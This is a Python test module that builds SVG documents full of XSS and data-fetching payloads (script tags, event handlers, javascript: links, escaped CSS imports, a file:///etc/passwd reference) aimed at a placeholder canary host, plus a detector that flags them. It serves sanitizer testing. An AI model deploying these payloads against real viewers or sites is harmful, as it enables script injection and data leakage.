"""SVG that attacks whoever looks at it: parts for one document, and documents of their own.

`CANARY` stands for the address of a server that nobody must ever ask, `RUN` for a program that would tell on itself.
What asks and what runs carries the name of its part, so that a trace of it says where it came from.
"""

import base64
import re
from xml.etree import ElementTree

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
XML = "http://www.w3.org/XML/1998/namespace"
XHTML = "http://www.w3.org/1999/xhtml"

_NESTED = f'<svg xmlns="{SVG}" onload="RUN"><script>RUN</script><image href="CANARY"/></svg>'

PARTS = {
    # Programs
    "script": "<script>RUN</script>",
    "script-cdata": "<script><![CDATA[RUN]]></script>",
    "script-href": '<script href="CANARY"/><script xlink:href="CANARY"/>',
    "script-data": '<script href="data:text/javascript,RUN"/>',
    "script-prefixed": f'<x:script xmlns:x="{SVG}">RUN</x:script>',
    "script-html": f'<h:script xmlns:h="{XHTML}">RUN</h:script>',
    "script-html-default": f'<script xmlns="{XHTML}">RUN</script>',
    "script-in-dropped": "<metadata><g><script>RUN</script></g></metadata>",
    "script-in-style": "<style><script>RUN</script></style>",
    "script-in-defs": "<defs><g><symbol><script>RUN</script></symbol></g></defs>",
    "script-in-text": "<text>a<tspan><script>RUN</script></tspan></text>",
    "script-numeric": "<script>RUN&#59;</script>",
    "handler-element": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler>',
    "listener": '<listener event="load" handler="#x"/>',
    "html-img": f'<h:img xmlns:h="{XHTML}" src="CANARY" onerror="RUN"/>',
    "html-meta": f'<h:meta xmlns:h="{XHTML}" http-equiv="refresh" content="0;url=CANARY"/>',
    "html-link": f'<h:link xmlns:h="{XHTML}" rel="stylesheet" href="CANARY"/>',
    "html-base": f'<h:base xmlns:h="{XHTML}" href="CANARY"/>',
    "html-embed": f'<h:embed xmlns:h="{XHTML}" src="CANARY"/><h:object xmlns:h="{XHTML}" data="CANARY"/>',
    "html-form": f'<h:form xmlns:h="{XHTML}" action="CANARY"><h:input autofocus="" onfocus="RUN"/></h:form>',
    "mathml": '<math xmlns="http://www.w3.org/1998/Math/MathML" href="CANARY"><mtext>RUN</mtext></math>',
    # Handlers
    "onload": '<g onload="RUN"/><rect width="9" height="9" onload="RUN" onclick="RUN" onmouseover="RUN"/>',
    "onbegin": '<animate attributeName="x" dur="1s" onbegin="RUN" onend="RUN" onrepeat="RUN"/>',
    "onerror": '<image href="data:image/png;base64,AAAA" onerror="RUN"/>',
    "onfocus": '<rect tabindex="0" onfocusin="RUN" autofocus="" onfocus="RUN"/>',
    "onload-prefixed": f'<rect xmlns:x="{SVG}" x:onload="RUN" xmlns:h="{XHTML}" h:onload="RUN"/>',
    "on-upper": '<rect ONLOAD="RUN" OnClick="RUN"/>',
    "onscroll-animated": '<set attributeName="onclick" to="RUN"/>',
    # Links
    "link": '<a href="CANARY" target="_blank" ping="CANARY" download="x"><rect/></a>',
    "link-javascript": '<a href="javascript:RUN" xlink:href="javascript:RUN"><rect/></a>',
    "link-hidden": '<a href="jav&#x09;ascript:RUN"><rect/></a><a href=" &#1488;javascript:RUN"><rect/></a>',
    "link-upper": '<a href="JaVaScRiPt:RUN"><rect/></a><a xlink:href="&#x6A;avascript:RUN"><rect/></a>',
    "link-data": '<a href="data:text/html,&lt;script&gt;RUN&lt;/script&gt;"><rect/></a>',
    "link-relative": '<a href="//CANARY"><rect/></a><a href="/v1/media?CANARY"><rect/></a>',
    "link-prefixed": f'<a xmlns:y="{XLINK}" y:href="javascript:RUN"><rect/></a>',
    "xml-base": '<g xml:base="CANARY"><use href="#a"/><image href="a.png"/></g>',
    # Animations that make links and handlers
    "set-href": '<a><rect/><set attributeName="href" to="javascript:RUN"/></a>',
    "animate-href": '<a><rect/><animate attributeName="href" values="javascript:RUN;CANARY" dur="1s"/></a>',
    "animate-xlink": '<a><animate attributeName="xlink:href" attributeType="XML" from="CANARY" to="CANARY"/></a>',
    "animate-prefixed": f'<image><set xmlns:y="{XLINK}" attributeName="y:href" to="CANARY"/></image>',
    "animate-spaces": '<image><set attributeName=" href " to="CANARY"/></image>',
    "animate-other": '<set href="#root" attributeName="href" to="CANARY"/>',
    "animate-fill": '<rect><animate attributeName="fill" values="url(CANARY#a);red" dur="1s"/></rect>',
    "animate-style": '<rect><set attributeName="style" to="fill:url(CANARY#a)"/></rect>',
    # Other documents and files
    "foreign-object": f'<foreignObject><iframe xmlns="{XHTML}" src="CANARY"/></foreignObject>',
    "foreign-nested": f'<foreignObject><svg xmlns="{SVG}"><foreignObject><b>RUN</b></foreignObject></svg>'
    f'<script xmlns="{XHTML}">RUN</script></foreignObject>',
    "iframe": '<iframe src="CANARY"/><audio href="CANARY"/><video xlink:href="CANARY"/><embed src="CANARY"/>',
    "image": '<image href="CANARY" xlink:href="CANARY" width="9" height="9"/>',
    "image-file": '<image href="file:///etc/passwd?CANARY" width="9" height="9"/>',
    "image-own-server": '<image href="/v1/usage?CANARY" width="9" height="9"/><image href="?CANARY"/>',
    "image-prefixed": f'<image xmlns:y="{XLINK}" y:href="CANARY" width="9" height="9"/>',
    "image-svg": '<image href="data:image/svg+xml;base64,NESTED" width="9" height="9"/>',
    "image-svg-hidden": '<image href=" dAtA:image/SVG+xml;charset=utf-8;base64,NESTED" width="9" height="9"/>',
    "image-svg-plain": '<image href="data:image/svg+xml,%3Csvg onload=RUN%3E" width="9" height="9"/>',
    "image-html": '<image href="data:text/html,RUN" width="9" height="9"/>',
    "image-srcset": '<image srcset="CANARY 1x" src="CANARY" data="CANARY" width="9" height="9"/>',
    "use": '<use href="CANARY#a"/><use xlink:href="CANARY#a"/>',
    "use-data": '<use href="data:image/svg+xml;base64,NESTED#a"/>',
    "fe-image": '<filter id="fi"><feImage href="CANARY"/></filter><rect width="9" height="9" filter="url(#fi)"/>',
    "gradient": '<linearGradient id="lg" href="CANARY#a"/><pattern id="pa" xlink:href="CANARY#a"/>',
    "text-path": '<text><textPath href="CANARY#a">x</textPath><tref xlink:href="CANARY#a"/></text>',
    "mpath": '<animateMotion><mpath href="CANARY#a"/></animateMotion>',
    "font-face-uri": '<font-face><font-face-src><font-face-uri href="CANARY"/></font-face-src></font-face>',
    "color-profile": '<color-profile name="p" href="CANARY" local="x"/><cursor id="cu" href="CANARY"/>',
    "mesh": '<meshgradient id="mg" href="CANARY"/><hatch id="ha" href="CANARY"/>',
    "discard": '<discard href="CANARY"/>',
    # Styles
    "fill": '<rect fill="url(CANARY#a)" stroke="url( \'CANARY#a\' )" width="9" height="9"/>',
    "presentation": '<rect filter="url(CANARY#a)" mask="URL(CANARY#a)" clip-path=\'url("CANARY#a")\' '
    'marker-start="url(CANARY#a)" cursor="url(CANARY),auto" width="9" height="9"/>',
    "style-attribute": '<rect style="fill:url(CANARY#a);background:url(CANARY)" width="9" height="9"/>',
    "style-escaped": '<rect style="fill:\\75rl(CANARY#a);filter:u\\000072 l(CANARY#b)" width="9" height="9"/>',
    "style-unclosed": '<rect style="fill:url(CANARY#a" width="9" height="9"/><rect style=\'mask:url("CANARY\'/>',
    "style-comment": '<rect style="fill:/*url(*/url(CANARY#a)/**/" width="9" height="9"/>',
    "style-binding": '<rect style="-moz-binding:url(CANARY#a);behavior:url(CANARY);width:expression(RUN)"/>',
    "style-image-set": "<rect style=\"background:image-set('CANARY' 1x);mask:-webkit-image-set(url(CANARY) 1x)\"/>",
    "style-new": "<rect style=\"mask:image('CANARY');fill:src('CANARY');background:cross-fade(url(CANARY),red)\"/>",
    "style-variable": '<g style="--a:url(CANARY)"><rect style="mask:var(--a)" width="9" height="9"/></g>',
    "sheet": "<style>rect{fill:url(CANARY#a)} svg{background:url(CANARY)} *{cursor:url('CANARY'),auto}</style>",
    "sheet-import": "<style>@import url(CANARY);</style><style>@IMPORT 'CANARY';</style>",
    "sheet-import-escaped": "<style>@\\69mport 'CANARY'; @i\\6dport url(CANARY);</style>",
    "sheet-import-cdata": "<style><![CDATA[ /**/ @import 'CANARY'; ]]></style>",
    "sheet-import-comment": "<style>@import/**/'CANARY';</style><style>@im<!-- -->port 'CANARY';</style>",
    "sheet-import-nested": "<style>@media all{@import 'CANARY'; rect{fill:url(CANARY)}}</style>",
    "sheet-namespace": "<style>@namespace url(CANARY); @document url(CANARY){}</style>",
    "sheet-font": "<style>@font-face{font-family:X;src:url(CANARY)} text{font-family:X}</style><text>x</text>",
    "sheet-escaped": "<style>rect{fill:\\75\\72\\6c(CANARY#a);mask:\\55RL(CANARY)}</style>",
    "sheet-numeric": "<style>rect{fill:&#117;rl(CANARY#a)}</style>",
    "sheet-unclosed": "<style>rect{fill:url(CANARY#a</style><style>rect{mask:url('CANARY</style>",
    "sheet-string": "<style>a{b:'\n} rect{fill:url(CANARY)}</style>",
    "sheet-prefixed": f'<s:style xmlns:s="{SVG}">rect{{fill:url(CANARY)}}</s:style>',
    "sheet-supports": "<style>@supports (fill:url(CANARY)){a{mask:url(CANARY)}} @layer a{a{fill:url(CANARY)}}</style>",
    "sheet-keyframes": "<style>@keyframes k{to{mask:url(CANARY)}} rect{animation:k 1s}</style>",
    "sheet-html": f'<h:style xmlns:h="{XHTML}">@import "CANARY";</h:style>',
    # What only a parser of HTML would take for something
    "comment": "<!-- >- -!><script>RUN</script> -->",
    "cdata": "<desc><![CDATA[</desc><script>RUN</script>]]></desc>",
    "title": "<title>&lt;/title&gt;&lt;img src=x onerror=RUN&gt;</title>",
    "attribute": '<g id="&quot;&gt;&lt;img src=x onerror=RUN&gt;" data-a="--&gt;&lt;script&gt;RUN"/>',
    # A namespace that would be markup, if it were written as it is
    "namespace": '<rect xmlns:e="data-x=&quot;&quot;>&lt;/rect>&lt;script>RUN&lt;/script>&lt;desc&#9;q=&quot;" '
    'e:a="1"/>',
    "namespace-of-element": '<e:rect xmlns:e="&quot;>&lt;script>RUN&lt;/script>"/>',
    "instruction": '<?xml-stylesheet href="CANARY"?><?php RUN ?>',
}

# Documents with something around the parts, or that need the root for themselves. PARTS is where the parts go.
_ROOT = f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" id="root" width="60" height="40"'
DOCUMENTS = {
    "all": f"{_ROOT}>PARTS</svg>",
    "root": f'<?xml-stylesheet type="text/css" href="CANARY"?><?xml-stylesheet type="text/xsl" href="CANARY"?>'
    f'{_ROOT} onload="RUN" onunload="RUN" xml:base="CANARY" xmlns:x="CANARY" baseProfile="full" href="CANARY" '
    f'style="background:url(CANARY)"><rect fill="red" width="9" height="9"/></svg>',
    "prefixed": f'<s:svg xmlns:s="{SVG}" xmlns:l="{XLINK}" width="60" height="40" onload="RUN">'
    f'<s:script l:href="CANARY">RUN</s:script><s:image l:href="CANARY" width="9" height="9"/></s:svg>',
}

# Of these elements nothing is kept, and no attribute of these names; references only to what is inside.
_RUNNING = {"script", "handler", "listener", "foreignObject", "iframe", "audio", "video", "embed", "cursor", "metadata"}
_FETCHING = {"src", "srcset", "data", "action", "ping", "target", "download"}
_NAMED = {"href", f"{{{XLINK}}}href"}


def document(name: str, canary: str, program: str) -> bytes:
    """One of DOCUMENTS, with every part where it has a place for them. `program` is what RUN calls."""
    parts = "\n".join(fill(part, text, canary, program) for part, text in PARTS.items())
    return fill(name, DOCUMENTS[name], canary, program).replace("PARTS", parts).encode()


def fill(name: str, text: str, canary: str, program: str) -> str:
    """A part with its name in what it would ask for and run."""
    if "NESTED" in text:
        text = text.replace("NESTED", base64.b64encode(fill(name, _NESTED, canary, program).encode()).decode())
    return text.replace("CANARY", f"{canary}/{name}").replace("RUN", f"{program}('{name}')")


def find_harm(stored: bytes) -> list[str]:
    """What a browser could run or fetch of a document, and what does not belong into one."""
    found = [construct.decode() for construct in (b"<!", b"<?xml-", b"<?php") if construct in stored]
    for element in ElementTree.fromstring(stored).iter():
        namespace, _, name = str(element.tag)[1:].partition("}")
        if namespace != SVG or name in _RUNNING:
            found.append(str(element.tag))
        found += [
            f"{name} {key}={value[:99]}" for key, value in element.attrib.items() if _is_harmful(name, key, value)
        ]
        if name == "style":
            found += _references(element.text or "")
    return found


def _is_harmful(element: str, key: str, value: str) -> bool:
    if key in _NAMED:
        return re.match("#|data:image/(png|jpeg|gif|webp);base64,", value) is None
    if key == "attributeName" and re.match("animate|set", element) and re.search(r"href\s*$|style|^\s*on", value):
        return True
    if key.lower().startswith("on") or key in _FETCHING:
        return True
    if key in ("id", "class") or key.startswith("data-"):
        return False
    is_foreign = key.startswith("{") and key not in (f"{{{XML}}}space", f"{{{XML}}}lang")
    # Outside of a sheet only functions refer to something.
    return is_foreign or ("(" in value and any(reference[0] != "@" for reference in _references(value)))


def _references(style: str) -> list[str]:
    """What is left of a style that could fetch something: without its references to what is inside, and its strings,
    there is no such function in it, with or without escapes."""
    style = re.sub(
        r"""(?i)\burl\(\s*(["']?)(?:#|data:(?:image/(?!svg)|font/|application/font))[^"'()\\]*\1\s*\)?""", " ", style
    )
    style = re.sub(r""""(?:[^"\\\n]|\\.)*"?|'(?:[^'\\\n]|\\.)*'?""", " ", style, flags=re.DOTALL)
    style = re.sub(r"(?i)\\([0-9a-f]{1,6})\s?|\\([^\n])", _unescaped, style)
    return re.findall(r"(?i)@import|(?<![\w#@.-])(?:url|src|image|(?:-webkit-)?image-set)\(.*", style)


def _unescaped(escape: re.Match[str]) -> str:
    """The letter that an escape in CSS stands for; another one for what is none, as it belongs to a name too."""
    character = chr(int(escape[1], 16) % 0x110000) if escape[1] else escape[2]
    return character if character.isalpha() else "x"
